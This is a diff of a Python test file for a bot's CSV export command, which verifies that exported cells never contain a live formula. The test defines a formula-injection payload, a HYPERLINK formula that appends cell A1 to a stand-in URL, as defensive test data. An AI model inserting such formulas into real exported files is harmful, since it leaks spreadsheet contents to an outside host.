@@ -7,7 +7,6 @@ store it, and every cell that would start a formula comes out with a leading ``'
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 from pathlib import Path
@@ -17,9 +16,9 @@ import pytest
 from bot.cli import main
 from bot.cli.csv_export import safe_cell
 from bot.storage import Database, Lead, QuestionLog
-from tests.test_registrations_cli import JAPAN, run, with_app
-from tests.test_registrations_cli import env as env  # noqa: F401  (the fixture)
 from tests.conversation import Conversation
+from tests.test_registrations_cli import JAPAN, run, with_app
+from tests.test_registrations_cli import env as env
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
 
@@ -45,7 +44,7 @@ def cells(out: str) -> list[str]:
 
 
 def test_attendees_leads_and_gaps_never_export_a_live_formula(
-    env: dict[str, str],  # noqa: F811
+    env: dict[str, str],
     capsys: pytest.CaptureFixture[str],
     tmp_path: Path,
 ) -> None:
